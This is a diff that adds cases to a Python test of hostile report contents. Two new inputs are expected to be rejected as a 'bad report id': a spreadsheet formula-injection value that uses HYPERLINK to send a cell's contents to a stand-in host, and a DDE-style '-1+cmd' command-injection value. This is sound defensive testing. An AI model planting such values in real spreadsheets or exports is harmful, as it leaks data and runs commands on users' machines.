@@ -859,6 +859,12 @@ def test_hostile_contents_change_nothing(scene, make_office, tmp_path: Path) -> 
             {}, "malformed event"),
         "a report without an action": (
             [chained(ml, "progress", "ML||2026-S1", {"percent": 1})], {}, "bad report id"),
+        "a formula for an action": (
+            [chained(ml, "progress", 'ML|=HYPERLINK("http://x/?"&A2,"Details")|2026-S1',
+                     {"percent": 1})], {}, "bad report id"),
+        "an action that is no code": (
+            [chained(ml, "progress", "ML|-1+cmd|2026-S1", {"percent": 1})], {},
+            "bad report id"),
         "a report for no period": (
             [chained(ml, "progress", f"ML|{act}|someday", {"percent": 1})], {},
             "bad report id"),
